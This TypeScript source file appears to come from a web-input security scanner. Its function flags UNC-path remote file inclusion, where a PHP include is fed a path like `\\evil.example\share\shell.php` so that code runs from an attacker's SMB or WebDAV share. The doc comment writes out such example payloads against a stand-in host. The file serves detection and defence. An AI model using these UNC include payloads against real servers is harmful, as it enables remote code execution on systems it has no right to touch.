import { classifyHost } from "../ssrf/host.js";
import { isCodeExt, isShellName } from "./scripts.js";

/**
 * UNC paths (Microsoft [MS-DTYP] §2.2.57: `\\host-name\share-name\object-name`): the
 * Windows and SMB form of remote inclusion. PHP on Windows opens a UNC path as a plain
 * file, so `include($_GET['page'])` given `\\evil.example\share\shell.php` runs code
 * from the attacker's SMB (or WebDAV, `\\host@SSL\…`) share even with
 * `allow_url_include` off — no URL scheme for a filter to see.
 *
 * The sign: the value starts with two or more backslashes (four in the escaped form a
 * string literal or a JSON layer leaves, `\\\\10.0.0.1\\x\\a.php`), names a host an
 * attacker can serve from — an IP address or a dotted DNS name (a bare NetBIOS name,
 * `\\fileserver\…`, is an intranet share pasted into a form) — then a share, and ends in
 * a code file (`.php`, `.asp`…) or a known web shell's name. A UNC path to a document
 * (`\\nas.example\docs\plan.pdf`) is no sign.
 */

function isHostChar(c: number): boolean {
  return (
    (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57) || c === 45 || c === 46 || c === 95
  );
}

function isSep(c: number): boolean {
  return c === 92 || c === 47;
}

/** End of a run of separators at i (at most `max`). */
function sepRun(v: string, i: number, max: number): number {
  let k = i;
  while (k < v.length && k - i < max && isSep(v.charCodeAt(k))) k++;
  return k;
}

/** Whether `host` (lower-case) is an IP address or a dotted name with a letter in its last label. */
function remoteHost(host: string): boolean {
  const dot = host.lastIndexOf(".");
  if (dot <= 0 || dot === host.length - 1 || host.charCodeAt(0) === 46) return false;
  if (classifyHost(host).ip) return true;
  for (let k = dot + 1; k < host.length; k++) {
    const c = host.charCodeAt(k);
    if (c >= 97 && c <= 122) return true;
  }
  return false;
}

/** The UNC include at the start of `v`: [start, end) of the match, or null. */
export function findUncInclude(v: string): { start: number; end: number } | null {
  if (v.length > 1024 || v.charCodeAt(0) !== 92 || v.charCodeAt(1) !== 92) return null;
  let i = 0;
  while (i < v.length && i < 8 && v.charCodeAt(i) === 92) i++;
  const hs = i;
  while (i < v.length && i - hs < 254 && isHostChar(v.charCodeAt(i))) i++;
  if (i === hs) return null;
  const host = v.slice(hs, i).toLowerCase();
  // `\\host@SSL\…`, `\\host@8080\…`: the WebDAV redirector's spelling.
  if (v.charCodeAt(i) === 64) {
    const at = ++i;
    while (i < v.length && i - at < 16 && isHostChar(v.charCodeAt(i))) i++;
  }
  if (!isSep(v.charCodeAt(i)) || !remoteHost(host)) return null;
  // Share and object components; the last one names the file.
  let last = -1;
  let parts = 0;
  for (let guard = 0; i < v.length && guard < 32; guard++) {
    i = sepRun(v, i, 4);
    const s = i;
    while (i < v.length && i - s < 256 && !isSep(v.charCodeAt(i))) {
      const c = v.charCodeAt(i);
      // A blank, quote or angle bracket ends the path (`\\h\s\a.php and more` in prose).
      if (c <= 32 || c === 34 || c === 39 || c === 60 || c === 62) return null;
      i++;
    }
    if (i === s) break;
    parts++;
    last = s;
  }
  if (i < v.length || parts < 2) return null;
  const file = v.slice(last).toLowerCase();
  const dot = file.lastIndexOf(".");
  if (dot <= 0) return null;
  const ext = file.slice(dot + 1);
  if (isCodeExt(ext) || (ext.length <= 5 && isShellName(file.slice(0, dot))))
    return { start: 0, end: v.length };
  return null;
}
